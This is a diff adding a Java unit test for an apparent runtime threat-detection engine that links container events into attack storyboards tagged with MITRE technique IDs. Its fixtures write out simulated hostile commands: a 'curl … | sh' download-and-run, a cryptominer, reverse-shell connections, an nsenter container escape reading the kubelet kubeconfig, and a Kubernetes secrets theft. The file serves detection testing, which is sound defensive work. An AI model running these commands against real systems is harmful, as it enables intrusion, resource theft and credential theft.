@@ -1,0 +1,260 @@
+package io.sightline.engine;
+
+import static io.sightline.engine.Events.container;
+import static io.sightline.engine.Events.process;
+import static org.assertj.core.api.Assertions.assertThat;
+
+import io.sightline.asset.Inventory;
+import io.sightline.asset.PodKey;
+import io.sightline.asset.Service;
+import io.sightline.asset.ServiceEndpoint;
+import io.sightline.event.ContainerContext;
+import io.sightline.event.ProcessRef;
+import io.sightline.event.RuntimeEvent;
+import io.sightline.event.SourceRecord;
+import io.sightline.finding.Severity;
+import io.sightline.storyboard.Storyboard;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.List;
+import java.util.Optional;
+import java.util.Random;
+import java.util.Set;
+import java.util.stream.Collectors;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/** Attack stories fed to the engine record by record, and the storyboards they must give. */
+class StoryboardEngineTest {
+
+    private static final String NODE_1 = "node-1";
+    private static final String NODE_2 = "node-2";
+    private static final Optional<ContainerContext> ORDERS = container("aaaa", "payments", "orders-api-1");
+    private static final Optional<ContainerContext> STOCK = container("bbbb", "inventory", "stock-1");
+
+    private final Events events = new Events();
+    private final List<RuntimeEvent> fed = new ArrayList<>();
+
+    private final ProcessRef shim =
+            process(NODE_1, 100, -900, "/usr/bin/containerd-shim-runc-v2", "", Optional.empty());
+    private final ProcessRef java = process(NODE_1, 101, -800, "/opt/java/bin/java", "-jar app.jar", ORDERS);
+    private final ProcessRef sh = process(NODE_1, 500, 10, "/bin/sh", "-c \"curl http://203.0.113.9/x | sh\"", ORDERS);
+    private final ProcessRef curl = process(NODE_1, 501, 10.1, "/usr/bin/curl", "http://203.0.113.9/x", ORDERS);
+    private final ProcessRef miner =
+            process(NODE_1, 502, 12, "/tmp/.x/kworker", "-o stratum+tcp://pool.example:3333", ORDERS);
+
+    @Test
+    void serverSpawningAShellThatFetchesAMinerIsOneStoryboard() {
+        int ordinaryRequest = feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
+        int jndiLookup = feed(events.connect(java, 9.5, "10.0.1.10:41000", "203.0.113.9:1389"));
+        int databaseCall = feed(events.connect(java, 9.6, "10.0.1.10:41001", "10.0.3.3:5432"));
+        int shExec = feed(events.exec(sh, java));
+        int curlExec = feed(events.exec(curl, sh));
+        int curlConnect = feed(events.connect(curl, 10.2, "10.0.1.10:41002", "203.0.113.9:80"));
+        int curlExit = feed(events.exit(curl, 10.5));
+        int minerExec = feed(events.exec(miner, sh));
+        int pool = feed(events.connect(miner, 12.1, "10.0.1.10:41003", "198.51.100.7:3333"));
+        int laterRequest = feed(events.accept(java, 20, "10.0.1.10:8080", "10.0.0.5:40001"));
+
+        List<Storyboard> storyboards = run(fed);
+
+        assertThat(storyboards).hasSize(1);
+        Storyboard attack = storyboards.getFirst();
+        assertThat(lines(attack))
+                .containsExactlyInAnyOrder(jndiLookup, shExec, curlExec, curlConnect, curlExit, minerExec, pool)
+                .doesNotContain(ordinaryRequest, databaseCall, laterRequest);
+        assertThat(attack.severity()).isEqualTo(Severity.CRITICAL);
+        assertThat(techniqueIds(attack)).contains("T1190", "T1059.004", "T1105", "T1496");
+        assertThat(attack.externalAddresses()).contains("203.0.113.9", "198.51.100.7");
+        assertThat(attack.hosts()).containsExactly(NODE_1);
+    }
+
+    @ParameterizedTest
+    @ValueSource(longs = {1, 2, 3, 42, 2024})
+    void arrivalOrderDoesNotChangeTheStoryboard(long seed) {
+        serverSpawningAShellThatFetchesAMinerIsOneStoryboard();
+        Set<Integer> inOrder = lines(run(fed).getFirst());
+
+        List<RuntimeEvent> shuffled = new ArrayList<>(fed);
+        Collections.shuffle(shuffled, new Random(seed));
+
+        assertThat(lines(run(shuffled).getFirst())).isEqualTo(inOrder);
+    }
+
+    @Test
+    void aReusedPidIsAnotherProcess() {
+        ProcessRef firstSh = process(NODE_1, 700, 5, "/bin/sh", "-c id", ORDERS);
+        ProcessRef reused = process(NODE_1, 700, 50, "/usr/bin/gzip", "-9 report.csv", ORDERS);
+        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
+        int attackerShell = feed(events.exec(firstSh, java));
+        feed(events.connect(firstSh, 6, "10.0.1.10:42000", "203.0.113.9:4444"));
+        int reusedExec = feed(events.exec(reused, shim));
+
+        Storyboard attack = run(fed).getFirst();
+
+        assertThat(lines(attack)).contains(attackerShell).doesNotContain(reusedExec);
+    }
+
+    @Test
+    void aShellFromAServerWithNothingSuspiciousAfterItStaysLow() {
+        ProcessRef python = process(NODE_1, 300, -500, "/usr/bin/python3.7", "server.py", ORDERS);
+        ProcessRef shell = process(NODE_1, 301, 30, "/bin/sh", "-c \"gzip -9 /srv/out/*.csv\"", ORDERS);
+        ProcessRef gzip = process(NODE_1, 302, 30.1, "/bin/gzip", "-9 /srv/out/daily.csv", ORDERS);
+        feed(events.accept(python, 1, "10.0.1.10:8000", "10.0.0.5:40000"));
+        feed(events.exec(shell, python));
+        feed(events.exec(gzip, shell));
+
+        Storyboard suspected = run(fed).getFirst();
+
+        assertThat(suspected.severity()).isEqualTo(Severity.LOW);
+        assertThat(suspected.severityReasons()).anyMatch(r -> r.contains("suspected, not confirmed"));
+    }
+
+    @Test
+    void aLoginServiceStartingAShellIsNoAttack() {
+        ProcessRef sshd = process(NODE_1, 40, -100, "/usr/sbin/sshd", "-D", Optional.empty());
+        ProcessRef bash = process(NODE_1, 41, 3, "/bin/bash", "", Optional.empty());
+        feed(events.accept(sshd, 1, "10.0.1.1:22", "10.0.0.9:50000"));
+        feed(events.exec(bash, sshd));
+
+        assertThat(run(fed)).isEmpty();
+    }
+
+    @Test
+    void aConnectionThroughAServiceJoinsTheServerThatAcceptedIt() {
+        ProcessRef tomcat = process(NODE_2, 200, -700, "/usr/local/openjdk/bin/java", "catalina start", STOCK);
+        ProcessRef pivot = process(NODE_1, 510, 40, "/usr/bin/curl", "-X POST http://10.100.5.5/", ORDERS);
+        ProcessRef webShell = process(NODE_2, 900, 45, "/bin/bash", "-c id", STOCK);
+        ProcessRef probe = process(NODE_2, 901, 46, "/bin/sh", "-c \"curl localhost:8080/health\"", STOCK);
+        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
+        feed(events.exec(sh, java));
+        feed(events.connect(sh, 10.05, "10.0.1.10:41000", "203.0.113.9:4444"));
+        int pivotExec = feed(events.exec(pivot, sh));
+        int readiness = feed(events.accept(tomcat, 39, "10.0.2.20:8080", "10.0.2.1:50000"));
+        int accepted = feed(events.accept(tomcat, 40.2, "10.0.2.20:8080", "10.0.1.10:36000"));
+        int dialled = feed(events.connect(pivot, 40.1, "10.0.1.10:36000", "10.100.5.5:80"));
+        int jsp = feed(events.write(tomcat, 40.3, "/usr/local/tomcat/webapps/ROOT/shell.jsp"));
+        int shellExec = feed(events.exec(webShell, tomcat));
+        int probeExec = feed(events.exec(probe, shim));
+
+        List<Storyboard> storyboards = run(fed);
+
+        assertThat(storyboards).hasSize(1);
+        Storyboard attack = storyboards.getFirst();
+        assertThat(lines(attack))
+                .contains(pivotExec, dialled, accepted, jsp, shellExec)
+                .doesNotContain(readiness, probeExec);
+        assertThat(attack.hosts()).containsExactlyInAnyOrder(NODE_1, NODE_2);
+        assertThat(attack.services()).contains("inventory/stock");
+        assertThat(techniqueIds(attack)).contains("T1210", "T1505.003");
+    }
+
+    @Test
+    void auditEventsFromThePodAddressWhileTheTrailTalksToTheApiJoinIt() {
+        ProcessRef apiCurl = process(
+                NODE_1,
+                520,
+                60,
+                "/usr/bin/curl",
+                "-H \"Authorization: Bearer eyJabc.def.ghi\" " + "https://10.100.0.1/api/v1/secrets",
+                ORDERS);
+        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
+        feed(events.exec(sh, java));
+        feed(events.connect(sh, 10.05, "10.0.1.10:41000", "203.0.113.9:4444"));
+        int listed = feed(events.apiCall(
+                60.2, "system:serviceaccount:payments:orders-api", "10.0.1.10", "/api/v1/namespaces/payments/secrets"));
+        int controller = feed(events.apiCall(
+                60.3, "system:serviceaccount:kube-system:generic-garbage-collector", "10.0.9.9", "/api/v1/secrets"));
+        feed(events.exec(apiCurl, sh));
+        feed(events.connect(apiCurl, 60.1, "10.0.1.10:43000", "10.100.0.1:443"));
+        int muchLater =
+                feed(events.apiCall(600, "system:serviceaccount:payments:orders-api", "10.0.1.10", "/api/v1/pods"));
+
+        Storyboard attack = run(fed).getFirst();
+
+        assertThat(lines(attack)).contains(listed).doesNotContain(controller, muchLater);
+        assertThat(attack.identities()).containsExactly("system:serviceaccount:payments:orders-api");
+        assertThat(techniqueIds(attack)).contains("T1552.007");
+        assertThat(attack.trail()).noneMatch(step -> step.text().contains("eyJabc"));
+    }
+
+    @Test
+    void aFalcoAlertOnATrailProcessJoinsItAndAnUnrelatedNoticeStandsAlone() {
+        ProcessRef agent =
+                process(NODE_1, 60, -1000, "/app/aws-k8s-agent", "", container("cccc", "kube-system", "aws-1"));
+        feed(events.accept(java, 1, "10.0.1.10:8080", "10.0.0.5:40000"));
+        feed(events.exec(sh, java));
+        feed(events.exec(curl, sh));
+        feed(events.connect(curl, 10.2, "10.0.1.10:41002", "203.0.113.9:80"));
+        int dropAndExecute =
+                feed(events.falco(miner, 12, "Drop and execute new binary in container", Severity.CRITICAL));
+        feed(events.exec(miner, sh));
+        int setns = feed(events.falco(agent, 13, "Change thread namespace", Severity.LOW));
+
+        List<Storyboard> storyboards = run(fed);
+
+        assertThat(storyboards).hasSize(2);
+        assertThat(lines(storyboards.get(0))).contains(dropAndExecute).doesNotContain(setns);
+        assertThat(storyboards.get(0).severity()).isEqualTo(Severity.CRITICAL);
+        assertThat(lines(storyboards.get(1))).containsExactly(setns);
+        assertThat(storyboards.get(1).severity()).isEqualTo(Severity.LOW);
+    }
+
+    @Test
+    void aProcessThatLeavesTheContainerForTheHostIsAnEscape() {
+        ProcessRef nsenter = process(NODE_1, 800, 70, "/usr/bin/nsenter", "-t 1 -m -u -i -n -p -- bash", ORDERS);
+        ProcessRef hostBash = process(NODE_1, 801, 70.1, "/bin/bash", "", Optional.empty());
+        ProcessRef cat = process(NODE_1, 802, 71, "/bin/cat", "/var/lib/kubelet/kubeconfig", Optional.empty());
+        feed(events.exec(nsenter, shim));
+        feed(events.exec(hostBash, nsenter));
+        feed(events.exec(cat, hostBash));
+        int kubeconfig = feed(events.read(cat, 71.01, "/var/lib/kubelet/kubeconfig"));
+
+        Storyboard escape = run(fed).getFirst();
+
+        assertThat(lines(escape)).contains(kubeconfig);
+        assertThat(techniqueIds(escape)).contains("T1611", "T1552.001");
+        assertThat(escape.severity()).isEqualTo(Severity.HIGH);
+        assertThat(escape.trail()).anyMatch(step -> step.text().startsWith("leaves the container for the host"));
+    }
+
+    private int feed(RuntimeEvent event) {
+        fed.add(event);
+        return event.source().line();
+    }
+
+    private static List<Storyboard> run(List<RuntimeEvent> input) {
+        StoryboardEngine engine = new StoryboardEngine(inventory(), ImageRisk.NONE, EngineConfig.DEFAULTS);
+        input.forEach(engine::accept);
+        return engine.storyboards();
+    }
+
+    private static Inventory inventory() {
+        Inventory inventory = new Inventory();
+        inventory.add(new Service(
+                "default",
+                "kubernetes",
+                "ClusterIP",
+                List.of("10.100.0.1"),
+                List.of(new Service.ServicePort("https", "TCP", 443, "443"))));
+        inventory.add(new ServiceEndpoint("default", "kubernetes", "10.0.1.200", 443, "https", Optional.empty()));
+        inventory.add(new Service(
+                "inventory",
+                "stock",
+                "ClusterIP",
+                List.of("10.100.5.5"),
+                List.of(new Service.ServicePort("http", "TCP", 80, "8080"))));
+        inventory.add(new ServiceEndpoint(
+                "inventory", "stock", "10.0.2.20", 8080, "http", Optional.of(new PodKey("inventory", "stock-1"))));
+        return inventory;
+    }
+
+    private static Set<Integer> lines(Storyboard storyboard) {
+        return storyboard.records().stream().map(SourceRecord::line).collect(Collectors.toSet());
+    }
+
+    private static List<String> techniqueIds(Storyboard storyboard) {
+        return storyboard.techniques().stream().map(Storyboard.TechniqueTag::id).toList();
+    }
+}
